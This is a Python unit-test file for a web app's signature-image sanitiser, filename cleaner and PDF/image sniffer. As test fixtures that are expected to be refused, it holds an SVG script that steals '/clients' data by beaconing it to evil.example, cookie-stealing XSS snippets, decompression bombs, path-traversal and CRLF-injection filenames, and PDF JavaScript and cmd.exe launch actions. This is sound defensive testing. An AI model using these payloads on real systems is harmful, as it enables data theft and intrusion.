"""Unit tests for signature images (re-encoded, hostile uploads refused), safe file names and document sniffing."""

import base64
import io
import math
import struct
import zipfile
import zlib

import pytest
from PIL import Image, ImageDraw, PngImagePlugin

from metpwa.rules.signature import (
    EMPTY_SIGNATURE,
    TINY_SIGNATURE,
    SignatureError,
    clean_signature,
    safe_filename,
    sniff_document,
)

CANVAS = (700, 220)  # what signature_pad gives on an iPad at devicePixelRatio 2, roughly


def png_bytes(image: Image.Image, **save) -> bytes:
    out = io.BytesIO()
    image.save(out, format="PNG", **save)
    return out.getvalue()


def data_url(data: bytes, media_type: str = "image/png") -> str:
    return f"data:{media_type};base64,{base64.b64encode(data).decode()}"


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def chunks(png: bytes) -> list[bytes]:
    kinds, position = [], 8
    while position < len(png):
        (length,) = struct.unpack(">I", png[position : position + 4])
        kinds.append(png[position + 4 : position + 8])
        position += 12 + length
    return kinds


def signature_image(colour=(25, 25, 25, 255), background=(0, 0, 0, 0), mode="RGBA") -> Image.Image:
    """A handwriting-like stroke: a wavy line with loops across most of the canvas."""
    image = Image.new(mode, CANVAS, background)
    draw = ImageDraw.Draw(image)
    points = [
        (60 + x, 110 + 45 * math.sin(x / 22) * math.cos(x / 90)) for x in range(0, 560, 4)
    ]
    draw.line(points, fill=colour, width=5, joint="curve")
    draw.ellipse((150, 70, 210, 150), outline=colour, width=4)
    return image


def refusal(data, **limits) -> str:
    with pytest.raises(SignatureError) as caught:
        clean_signature(data, **limits)
    return caught.value.message


@pytest.fixture
def stroke_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "drawn on the iPad")
    info.add_itxt("Author", "someone", zip=True)
    return png_bytes(signature_image(), pnginfo=info)


# --- Signatures that pass ---


def test_a_drawn_signature_comes_back_as_a_clean_png(stroke_png):
    assert {b"tEXt", b"iTXt"} <= set(chunks(stroke_png))
    cleaned = clean_signature(data_url(stroke_png))
    assert cleaned.startswith(b"\x89PNG\r\n\x1a\n")
    assert set(chunks(cleaned)) == {b"IHDR", b"IDAT", b"IEND"}
    image = Image.open(io.BytesIO(cleaned))
    assert image.size == CANVAS
    assert image.mode == "LA", "a dark-gray stroke is kept as grayscale + alpha"
    assert not image.info


def test_raw_bytes_and_a_data_url_in_bytes_are_accepted(stroke_png):
    assert clean_signature(stroke_png) == clean_signature(data_url(stroke_png).encode())


def test_a_coloured_pen_is_kept_in_colour():
    cleaned = clean_signature(png_bytes(signature_image(colour=(10, 40, 160, 255))))
    image = Image.open(io.BytesIO(cleaned))
    assert image.mode == "RGBA"
    assert image.getpixel((60, 110))[2] > image.getpixel((60, 110))[0]


def test_a_signature_on_an_opaque_white_canvas_passes():
    image = signature_image(colour=(0, 0, 0), background=(255, 255, 255), mode="RGB")
    assert Image.open(io.BytesIO(clean_signature(png_bytes(image)))).mode == "LA"


def test_colour_hidden_under_transparent_pixels_is_removed():
    image = signature_image()
    hidden = Image.new("RGBA", CANVAS, (255, 0, 0, 0))  # fully transparent red: invisible, but it is data
    hidden.alpha_composite(image)
    cleaned = Image.open(io.BytesIO(clean_signature(png_bytes(hidden))))
    assert cleaned.mode == "LA"
    assert cleaned.getpixel((5, 5)) == (0, 0)


def test_a_palette_png_is_accepted():
    image = signature_image(colour=(0, 0, 0), background=(255, 255, 255), mode="RGB").convert("P")
    assert clean_signature(png_bytes(image))


# --- Empty and tiny signatures ---


def test_an_empty_transparent_canvas_is_refused():
    assert refusal(png_bytes(Image.new("RGBA", CANVAS, (0, 0, 0, 0)))) == EMPTY_SIGNATURE
    assert EMPTY_SIGNATURE == "Please sign with your finger or the pencil: the signature is empty."


def test_a_white_canvas_is_refused():
    assert refusal(png_bytes(Image.new("RGB", CANVAS, (255, 255, 255)))) == EMPTY_SIGNATURE
    assert refusal(png_bytes(Image.new("RGBA", CANVAS, (255, 255, 255, 255)))) == EMPTY_SIGNATURE


def test_a_faint_or_white_stroke_is_not_ink():
    assert refusal(png_bytes(signature_image(colour=(0, 0, 0, 20)))) == EMPTY_SIGNATURE
    assert refusal(png_bytes(signature_image(colour=(255, 255, 255, 255)))) == EMPTY_SIGNATURE


def test_a_single_dot_is_refused():
    image = Image.new("RGBA", CANVAS, (0, 0, 0, 0))
    ImageDraw.Draw(image).ellipse((300, 100, 306, 106), fill=(0, 0, 0, 255))
    assert refusal(data_url(png_bytes(image))) == TINY_SIGNATURE
    assert TINY_SIGNATURE.startswith("Please sign with your finger or the pencil:")
    assert TINY_SIGNATURE.endswith("too small to be a signature.")


def test_a_flat_line_or_a_tiny_scribble_is_refused():
    flat = Image.new("RGBA", CANVAS, (0, 0, 0, 0))
    ImageDraw.Draw(flat).line((100, 100, 500, 100), fill=(0, 0, 0, 255), width=3)
    assert refusal(png_bytes(flat)) == TINY_SIGNATURE
    scribble = Image.new("RGBA", CANVAS, (0, 0, 0, 0))
    ImageDraw.Draw(scribble).line((100, 100, 130, 130, 110, 90), fill=(0, 0, 0, 255), width=4)
    assert refusal(png_bytes(scribble)) == TINY_SIGNATURE


# --- Hostile uploads ---

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="700" height="220">'
    b"<script>fetch('/clients').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
    b'<path d="M10 10 L600 200" stroke="black"/></svg>'
)


def test_an_svg_with_script_is_refused_as_svg_data_url_raw_bytes_and_disguised_png():
    for upload in (
        data_url(SVG_WITH_SCRIPT, "image/svg+xml"),
        SVG_WITH_SCRIPT,
        SVG_WITH_SCRIPT.decode(),
        data_url(SVG_WITH_SCRIPT),  # claims image/png; the bytes say otherwise
    ):
        assert refusal(upload) == "The signature must be a PNG image from the signature pad."


def test_jpeg_gif_and_html_are_refused(stroke_png):
    image = signature_image(colour=(0, 0, 0), background=(255, 255, 255), mode="RGB")
    jpeg, gif = io.BytesIO(), io.BytesIO()
    image.save(jpeg, format="JPEG")
    image.save(gif, format="GIF")
    html = b"<!doctype html><script>alert(document.cookie)</script>"
    for upload in (jpeg.getvalue(), data_url(jpeg.getvalue(), "image/jpeg"), data_url(jpeg.getvalue()),
                   gif.getvalue(), data_url(gif.getvalue(), "image/gif"), html, data_url(html, "text/html")):
        assert "must be a PNG" in refusal(upload)


def test_other_data_url_shapes_are_refused(stroke_png):
    encoded = base64.b64encode(stroke_png).decode()
    for upload in (f"data:image/png,{encoded}", f"data:image/png;charset=utf-8,{encoded}", encoded,
                   f"data:;base64,{encoded}", f"javascript:alert(1)//{encoded}"):
        assert "must be a PNG" in refusal(upload)


def test_media_type_case_and_parameters_are_tolerated(stroke_png):
    encoded = base64.b64encode(stroke_png).decode()
    assert clean_signature(f"DATA:Image/PNG;BASE64,{encoded}")


def test_a_png_with_a_zip_appended_is_refused(stroke_png):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("payload.html", "<script>alert(1)</script>")
    message = refusal(data_url(stroke_png + archive.getvalue()))
    assert "extra data" in message


def test_a_png_with_html_appended_is_refused(stroke_png):
    assert "extra data" in refusal(stroke_png + b"<html><script>alert(1)</script></html>")


def test_a_header_claiming_100000_by_100000_pixels_is_refused_before_decoding():
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1000)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    assert len(bomb) < 200
    assert "too large" in refusal(bomb)
    assert "too large" in refusal(data_url(bomb))


def test_a_canvas_over_the_size_caps_is_refused():
    wide = png_bytes(Image.new("RGBA", (3001, 40)))
    assert "too large" in refusal(wide)
    assert "too large" in refusal(png_bytes(Image.new("RGBA", (400, 120))), max_width=300)


def test_a_too_large_payload_is_refused_before_it_is_decoded(stroke_png):
    huge = "data:image/png;base64," + "A" * 400_000  # would decode to 300 000 bytes
    assert "too large" in refusal(huge)
    assert "too large" in refusal(stroke_png + b"\x00" * 200_000)
    assert "too large" in refusal(data_url(stroke_png), max_bytes=len(stroke_png) - 1)


@pytest.mark.parametrize(
    "payload",
    [
        "data:image/png;base64,!!!not base64!!!",
        "data:image/png;base64,iVBORw0KGgo",
        "data:image/png;base64,iVBO\nRw0KGgo=",
    ],
    ids=["symbols", "bad-padding", "newline"],
)
def test_bad_base64_is_refused(payload):
    assert refusal(payload) == "The signature could not be read: please clear it and sign again."


def test_non_ascii_bytes_after_data_prefix_are_refused():
    assert "could not be read" in refusal(b"data:image/png;base64,\xff\xfe")


def test_a_damaged_png_is_refused(stroke_png):
    broken_crc = bytearray(stroke_png)
    broken_crc[30] ^= 0xFF  # inside IHDR: its CRC no longer matches
    assert "could not be read" in refusal(bytes(broken_crc))
    assert "could not be read" in refusal(stroke_png[: len(stroke_png) // 2])
    assert "could not be read" in refusal(b"\x89PNG\r\n\x1a\n")


def test_idat_that_is_not_zlib_is_refused():
    header = struct.pack(">IIBBBBB", 700, 220, 8, 6, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"garbage" * 10) + chunk(b"IEND", b"")
    assert "could not be read" in refusal(png)


def test_an_unknown_critical_chunk_is_refused(stroke_png):
    ihdr_end = 8 + 12 + 13
    odd = stroke_png[:ihdr_end] + chunk(b"CgBI", b"\x00" * 4) + stroke_png[ihdr_end:]
    assert "must be a PNG" in refusal(odd)


def test_a_compressed_text_chunk_is_dropped_unread(stroke_png):
    ihdr_end = 8 + 12 + 13
    bomb_text = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * 5_000_000, 9))
    cleaned = clean_signature(stroke_png[:ihdr_end] + bomb_text + stroke_png[ihdr_end:])
    assert b"zTXt" not in chunks(cleaned)


def test_sixteen_bit_grayscale_is_refused():
    assert "must be a PNG" in refusal(png_bytes(Image.new("I;16", CANVAS)))


# --- File names ---


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("C:\\Users\\ann\\Desktop\\Order for J. Smith.pdf", "Order for J. Smith.pdf"),
        ("/var/www/../../referral.pdf", "referral.pdf"),
        ("résumé clearance.pdf", "resume clearance.pdf"),
        ("order\x00.pdf\n", "order.pdf"),
        ("bad\r\nContent-Type: text.pdf", "badContent-Type text.pdf"),
        ("evil<script>.pdf", "evilscript.pdf"),
        ("report (1).pdf", "report 1.pdf"),
        ("scan   2024.jpg", "scan 2024.jpg"),
        ("...hidden.pdf", "hidden.pdf"),
        ("-rf.pdf", "rf.pdf"),
        ("file.tar.gz", "file.tar.gz"),
        ("trailing dots...", "trailing dots"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name, "document.pdf") == expected


@pytest.mark.parametrize("name", ["", "..", "../", "/", ".pdf", ".htaccess", "检查报告.pdf", "\x00\x01", "   "])
def test_safe_filename_falls_back_to_the_default(name):
    assert safe_filename(name, "document.pdf") == "document.pdf"


def test_safe_filename_cleans_the_default_too():
    assert safe_filename("", "../secret/order.pdf") == "order.pdf"
    assert safe_filename("", "") == "document"


def test_safe_filename_is_at_most_120_characters_and_keeps_the_extension():
    name = safe_filename("a" * 300 + ".pdf", "document.pdf")
    assert len(name) == 120 and name.endswith("a.pdf")
    assert len(safe_filename("b" * 300, "document.pdf")) == 120


# --- Uploaded documents ---


def pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def object_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(content) if filters == b"/FlateDecode" else (
        content.hex().encode() + b">" if filters == b"/ASCIIHexDecode" else content)
    return (b"<< /Type /ObjStm /N 1 /First 4 /Filter " + filters + b" /Length %d >>\nstream\n" % len(data)
            + data + b"\nendstream")


def test_a_plain_pdf_is_a_pdf():
    assert sniff_document(pdf(CATALOG, PAGES, PAGE)) == "application/pdf"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n4 0 obj\n<< /S /JavaScript /JS 5 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /AA << /O << /JS (this.exportDataObject()) >> >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
    ],
    ids=["javascript", "indirect", "js-only", "launch", "hex-escaped"],
)
def test_a_pdf_that_runs_javascript_or_launches_a_program_is_refused(action):
    assert sniff_document(pdf(action, PAGES, PAGE)) is None


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    hidden = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, object_stream(hidden))) is None


def test_a_benign_compressed_object_stream_is_accepted():
    benign = b"4 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, object_stream(benign))) == "application/pdf"


def test_an_object_stream_under_any_decodable_filter_chain_is_read():
    benign = b"4 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    hidden = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, object_stream(benign, b"/ASCIIHexDecode"))) == "application/pdf"
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, object_stream(hidden, b"/ASCIIHexDecode"))) is None


def test_a_stream_we_cannot_decode_is_refused():
    benign = b"4 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, object_stream(benign, b"/Crypt"))) is None


def test_names_that_only_start_like_js_are_not_actions():
    assert sniff_document(pdf(CATALOG, PAGES, PAGE, b"<< /JSFont /Helvetica /Launcher 1 >>")) == "application/pdf"


def test_a_pdf_made_by_pypdf_with_and_without_javascript():
    pypdf = pytest.importorskip("pypdf")
    from pypdf.actions import JavaScript

    writer = pypdf.PdfWriter()
    writer.add_blank_page(612, 792)
    plain = io.BytesIO()
    writer.write(plain)
    assert sniff_document(plain.getvalue()) == "application/pdf"
    writer.add_open_action(JavaScript("app.alert('hello');"))
    scripted = io.BytesIO()
    writer.write(scripted)
    assert sniff_document(scripted.getvalue()) is None


def test_images_are_recognised_by_their_bytes(stroke_png):
    jpeg = io.BytesIO()
    Image.new("RGB", (20, 20), (255, 255, 255)).save(jpeg, format="JPEG")
    assert sniff_document(stroke_png) == "image/png"
    assert sniff_document(jpeg.getvalue()) == "image/jpeg"


@pytest.mark.parametrize(
    "data",
    [b"", b"GIF89a\x01\x00", SVG_WITH_SCRIPT, b"<!doctype html><html></html>", b"PK\x03\x04zip",
     b" %PDF-1.7\n", b"\r\n%PDF-1.7\n", b"MZ\x90\x00", b"%PDF"],
    ids=["empty", "gif", "svg", "html", "zip", "space-before-pdf", "newline-before-pdf", "exe", "short-pdf"],
)
def test_anything_else_is_not_a_document_we_keep(data):
    assert sniff_document(data) is None
